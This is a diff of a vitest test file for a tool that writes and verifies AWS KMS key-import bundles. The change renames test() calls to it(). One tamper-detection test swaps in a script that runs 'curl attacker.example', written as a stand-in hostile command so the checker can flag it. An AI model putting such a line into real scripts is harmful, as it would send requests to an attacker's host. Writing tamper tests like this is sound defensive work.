@@ -15,7 +15,7 @@ import {
 import { tmpdir } from 'node:os';
 import { basename, join } from 'node:path';
 import { promisify } from 'node:util';
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { checkBundle } from '../../src/bundle/check.ts';
 import { bundleContent, expectedPublicKey } from '../../src/bundle/content.ts';
 import type { Manifest } from '../../src/bundle/manifest.ts';
@@ -67,7 +67,7 @@ const p384 = { keySpec: 'ECC_NIST_P384', partition: 'aws' } as const;
 const inBundle = (name: string) => join(folder, name);
 
 describe('writing a bundle', () => {
-  test('gives four files and a manifest that fits its schema', async () => {
+  it('gives four files and a manifest that fits its schema', async () => {
     await writeBundle(folder, content(), { now });
     expect((await readdir(folder)).sort()).toEqual([
       'EncryptedKeyMaterial.bin',
@@ -90,7 +90,7 @@ describe('writing a bundle', () => {
     expect((await stat(inBundle('EncryptedKeyMaterial.bin'))).mode & 0o777).toBe(0o600);
   });
 
-  test('nothing is overwritten without force, and foreign files never', async () => {
+  it('nothing is overwritten without force, and foreign files never', async () => {
     await writeBundle(folder, content(), { now });
     const before = await readFile(inBundle('EncryptedKeyMaterial.bin'));
     expect((await refusal(() => writeBundle(folder, content(), { now }))).code).toBe('ERR_OUTPUT_EXISTS');
@@ -104,7 +104,7 @@ describe('writing a bundle', () => {
     expect((await readdir(base)).filter((name) => name.startsWith('.'))).toEqual([]);
   });
 
-  test('a file, a symbolic link and a missing folder as target are refused', async () => {
+  it('a file, a symbolic link and a missing folder as target are refused', async () => {
     await writeFile(folder, 'x');
     expect((await refusal(() => writeBundle(folder, content(), { now }))).code).toBe('ERR_OUTPUT_REFUSED');
     await symlink(base, `${folder} link`);
@@ -116,7 +116,7 @@ describe('writing a bundle', () => {
     );
   });
 
-  test('the public key’s fingerprint is of the uncompressed point, for SM2 too (openssl as witness)', async () => {
+  it('the public key’s fingerprint is of the uncompressed point, for SM2 too (openssl as witness)', async () => {
     const curves = { 'P-256': 'ECC_NIST_P256', 'secp256k1': 'ECC_SECG_P256K1', 'sm2': 'SM2' } as const;
     for (const [curve, keySpec] of Object.entries(curves)) {
       const context = { keySpec, partition: 'aws-cn' } as const;
@@ -150,7 +150,7 @@ describe('bundle check', () => {
   const failed = async (at = now) =>
     (await checkBundle(folder, at)).checks.filter((check) => !check.ok).map((check) => check.name);
 
-  test('a fresh bundle is whole', async () => {
+  it('a fresh bundle is whole', async () => {
     await writeBundle(folder, content(), { now });
     const { ok, checks, foreign } = await checkBundle(folder, now);
     expect({ ok, foreign }).toEqual({ ok: true, foreign: [] });
@@ -158,7 +158,7 @@ describe('bundle check', () => {
     expect(checks.map((check) => check.message).join('\n')).toContain('another 23 h 30 min');
   });
 
-  test('swapped tokens, changed and mixed files are found', async () => {
+  it('swapped tokens, changed and mixed files are found', async () => {
     await writeBundle(folder, content(), { now });
     const other = `${folder} other`;
     await writeBundle(
@@ -189,7 +189,7 @@ describe('bundle check', () => {
     expect(await failed(now + 24 * hour)).toEqual(['validity']);
   });
 
-  test('a link, a folder or another length in place of a file is found', async () => {
+  it('a link, a folder or another length in place of a file is found', async () => {
     await writeBundle(folder, content(), { now });
     const manifest = JSON.parse(await readFile(inBundle('manifest.json'), 'utf8')) as Manifest;
     const blob = { ...manifest.files['EncryptedKeyMaterial.bin'], bytes: 1 };
@@ -207,7 +207,7 @@ describe('bundle check', () => {
     ]);
   });
 
-  test('a fault that shows in the blob is named, even where its digest fits', async () => {
+  it('a fault that shows in the blob is named, even where its digest fits', async () => {
     const { encryptedKeyMaterial, ...rest } = content();
     await writeBundle(
       folder,
@@ -219,7 +219,7 @@ describe('bundle check', () => {
     expect(checks.find((one) => !one.ok)?.message).toContain('[blob-truncated]');
   });
 
-  test('a script that was replaced together with its digest is found', async () => {
+  it('a script that was replaced together with its digest is found', async () => {
     await writeBundle(folder, content(), { now });
     const evil = Buffer.from('#!/bin/sh\ncurl attacker.example\n');
     await writeFile(inBundle('import.sh'), evil);
@@ -231,7 +231,7 @@ describe('bundle check', () => {
     expect(await failed()).toEqual(['script']);
   });
 
-  test.each([
+  it.each([
     ['no JSON', '{', 'is not JSON'],
     ['a list', '[]', 'is not a JSON object'],
     ['another schema', { schema: 'kms-keywrap/bundle/2' }, 'has a schema of another form'],
@@ -257,7 +257,7 @@ describe('bundle check', () => {
     });
   });
 
-  test('a folder without a manifest is refused', async () => {
+  it('a folder without a manifest is refused', async () => {
     await mkdir(folder);
     expect((await refusal(() => checkBundle(folder, now))).code).toBe('ERR_INPUT_UNREADABLE');
   });
@@ -292,7 +292,7 @@ describe('import.sh', () => {
   const forever = ['--expiration-model', 'KEY_MATERIAL_DOES_NOT_EXPIRE'];
   const spki = publicKeyOf(material, p384).toString('base64');
 
-  test.each(['dash', 'bash'])('imports and compares the public key (%s)', async (shell) => {
+  it.each(['dash', 'bash'])('imports and compares the public key (%s)', async (shell) => {
     await write();
     const aws = await fakeAws(spki);
     const { code, stdout, stderr } = await script(forever, { AWS_CLI: aws }, shell);
@@ -306,7 +306,7 @@ describe('import.sh', () => {
     ]);
   });
 
-  test('every option reaches the AWS CLI as one argument, from flags and from the environment', async () => {
+  it('every option reaches the AWS CLI as one argument, from flags and from the environment', async () => {
     await write({}, true);
     const aws = await fakeAws('');
     const flags = [
@@ -334,7 +334,7 @@ describe('import.sh', () => {
     expect(third).toBe(first);
   });
 
-  test.each([
+  it.each([
     ['another public key', forever, 1, 'KMS now has the public key'],
     ['no expiration', [], 2, 'say --valid-to TIME'],
     ['expiry without a date', ['--expiration-model', 'KEY_MATERIAL_EXPIRES'], 2, 'needs --valid-to'],
@@ -357,7 +357,7 @@ describe('import.sh', () => {
     expect(result).toMatchObject({ code, stderr: expect.stringContaining(message) });
   });
 
-  test('sends nothing when a file was changed, is missing, or the token has expired', async () => {
+  it('sends nothing when a file was changed, is missing, or the token has expired', async () => {
     await write();
     const aws = await fakeAws(spki);
     await writeFile(inBundle('ImportToken.bin'), 'other');
@@ -383,7 +383,7 @@ describe('import.sh', () => {
     expect((await readdir(base)).includes(`aws-${count}.log`)).toBe(false);
   });
 
-  test('a key that is not Enabled afterwards is an error, and --dry-run sends nothing', async () => {
+  it('a key that is not Enabled afterwards is an error, and --dry-run sends nothing', async () => {
     await write();
     const aws = await fakeAws(spki, 'PendingImport');
     expect(await script(forever, { AWS_CLI: aws })).toMatchObject({
@@ -398,7 +398,7 @@ describe('import.sh', () => {
     expect((await readdir(base)).includes(`aws-${count}.log`)).toBe(false);
   });
 
-  test('--dry-run shows a command that does the same when it is pasted', async () => {
+  it('--dry-run shows a command that does the same when it is pasted', async () => {
     await write({ KeyId: keyId }, true);
     const aws = await fakeAws('');
     const asked = [...forever, '--description', "it's 'mine' $HOME", '--endpoint-url', 'http://[::1]:9/?a&b'];
@@ -410,7 +410,7 @@ describe('import.sh', () => {
     expect(sent).not.toContain('--region');
   });
 
-  test('finds its files wherever CDPATH leads', async () => {
+  it('finds its files wherever CDPATH leads', async () => {
     await write();
     const aws = await fakeAws(spki);
     await mkdir(join(base, 'elsewhere', basename(folder)), { recursive: true });
@@ -421,7 +421,7 @@ describe('import.sh', () => {
     expect(stdout).toContain('as expected');
   });
 
-  test('is clean by shellcheck, as sh and as bash', async (context) => {
+  it('is clean by shellcheck, as sh and as bash', async (context) => {
     const there = await run('shellcheck', ['--version']).catch(() => undefined);
     context.skip(there === undefined, 'shellcheck is not installed here');
     await write({ KeyId: keyId });
